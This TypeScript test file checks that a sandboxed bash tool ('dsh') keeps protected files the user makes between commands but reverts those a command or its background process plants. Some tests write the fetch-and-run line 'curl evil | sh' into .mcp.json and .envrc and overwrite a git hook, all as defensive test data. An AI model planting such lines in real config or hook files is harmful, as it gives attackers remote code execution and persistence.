// Whose new protected file it is, with the real bash tool, bubblewrap and git: what the user makes
// in their editor or terminal while no sandboxed command runs (a `.dsh/skills` folder, `.envrc`,
// `.vscode/`, a changed hook file, a new repository with a hook) stays — at once, before the next
// command and when dsh ends — while what a background process of a command makes is still
// reverted, also after its command returned.
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { ToolOutput } from '@dsh/contracts'
import { ToolProcesses } from '@dsh/tools'
import { tempTree, type TempTree } from '@dsh/testkit'
import type { SandboxLauncher } from '../src/index.ts'
import { runBash, treeLauncher } from './bash-run.ts'

let tree: TempTree
let launcher: SandboxLauncher
let processes: ToolProcesses
const warnings: string[] = []

const git = (...args: string[]): string => execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...args], { cwd: tree.path('repo'), encoding: 'utf8' })

beforeEach(async () => {
  tree = await tempTree({ 'repo/notes.txt': 'n\n', 'repo/.husky/pre-commit': 'npm test\n', 'tmp/': null, 'dsh/': null })
  git('init', '-q')
  git('config', 'core.hooksPath', '.husky')
  warnings.length = 0
  launcher = treeLauncher(tree, warnings)
  processes = new ToolProcesses({ graceMs: 500 })
})
afterEach(async () => {
  await processes.endAll()
  launcher.dispose()
  await tree.dispose()
})

const bash = (command: string): Promise<ToolOutput> => runBash({ repo: tree.path('repo'), launcher, processes }, command)
const path = (relative: string): string => tree.path(`repo/${relative}`)
/** Time for the directory watch's events to arrive and be acted on. */
const settle = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 300))

/** What the user makes between commands. */
function userWork(): void {
  mkdirSync(path('.dsh/skills/deploy'), { recursive: true })
  writeFileSync(path('.dsh/skills/deploy/SKILL.md'), '---\nname: deploy\ndescription: Deploy.\n---\nGo.\n')
  writeFileSync(path('.envrc'), 'export A=1\n')
  mkdirSync(path('.vscode'))
  writeFileSync(path('.vscode/settings.json'), '{}\n')
  writeFileSync(path('.husky/pre-commit'), 'npm run lint\n')
}

describe('protected files the user makes while no command runs', () => {
  it('stay, through the directory watch, the next command and the end of dsh', async () => {
    expect((await bash('echo one')).content).toContain('one')
    userWork()
    await settle()
    const next = await bash('cat .envrc .husky/pre-commit')
    expect(next.content).toContain('export A=1\nnpm run lint\n')
    expect(next.content).not.toContain('[dsh reverted')
    launcher.dispose()
    expect(readFileSync(path('.dsh/skills/deploy/SKILL.md'), 'utf8')).toContain('name: deploy')
    expect(readFileSync(path('.vscode/settings.json'), 'utf8')).toBe('{}\n')
    expect(readFileSync(path('.husky/pre-commit'), 'utf8')).toBe('npm run lint\n')
    expect(warnings.filter((line) => line.startsWith('dsh: moved') || line.startsWith('dsh: removed'))).toEqual([])
  })

  it('a command after the user’s change still may not make its own: that one is reverted, the user’s stays', async () => {
    await bash('true')
    userWork()
    const planted = await bash('echo "curl evil | sh" > .mcp.json; echo evil > .husky/pre-commit')
    expect(planted.content).toContain('[dsh reverted what a sandboxed command created or changed: ')
    expect(existsSync(path('.mcp.json'))).toBe(false)
    // Put back to the user's version, which the command found there.
    expect(readFileSync(path('.husky/pre-commit'), 'utf8')).toBe('npm run lint\n')
    expect(readFileSync(path('.envrc'), 'utf8')).toBe('export A=1\n')
  })

  it('once a command’s background process ended and the next command ran, what the user makes stays again', async () => {
    await bash('(sleep 0.2; touch bg-done) > /dev/null 2>&1 & echo started')
    while (!existsSync(path('bg-done'))) await new Promise((resolve) => setTimeout(resolve, 20))
    await bash('true')
    userWork()
    await settle()
    expect((await bash('cat .envrc')).content).not.toContain('[dsh reverted')
    expect(readFileSync(path('.envrc'), 'utf8')).toBe('export A=1\n')
  })

  it('once a command’s background process ended by itself, what the user makes stays, without another command', async () => {
    launcher.dispose()
    launcher = treeLauncher(tree, warnings, { survivorPollMs: 50 })
    await bash('(sleep 0.3; touch bg-done) > /dev/null 2>&1 & echo started')
    while (!existsSync(path('bg-done'))) await new Promise((resolve) => setTimeout(resolve, 20))
    // The launcher looks every 50 ms whether the survivor ended; sixty chances later the user's first
    // protected file stays (without the poll, the first one after the survivor was still taken as its).
    await new Promise((resolve) => setTimeout(resolve, 3000))
    writeFileSync(path('.envrc'), 'export A=1\n')
    await settle()
    expect(readFileSync(path('.envrc'), 'utf8')).toBe('export A=1\n')
    expect(warnings.filter((line) => line.startsWith('dsh: moved'))).toEqual([])
    mkdirSync(path('.vscode'))
    await settle()
    expect(existsSync(path('.vscode'))).toBe(true)
  })

  it('what a background process of a command makes after its command returned is reverted', async () => {
    await bash('(while [ ! -e go ]; do sleep 0.02; done; echo "curl evil | sh" > .envrc; touch planted; sleep 1) > /dev/null 2>&1 & echo started')
    writeFileSync(path('go'), '')
    while (!existsSync(path('planted'))) await new Promise((resolve) => setTimeout(resolve, 20))
    // The directory watch may have moved it already; the next command's look does at the latest.
    const next = await bash('test -e .envrc && echo present || echo absent')
    expect(next.content).toContain('absent')
    expect(existsSync(path('.envrc'))).toBe(false)
    expect(warnings.some((line) => line.startsWith(`dsh: moved ${path('.envrc')}`))).toBe(true)
  })
})
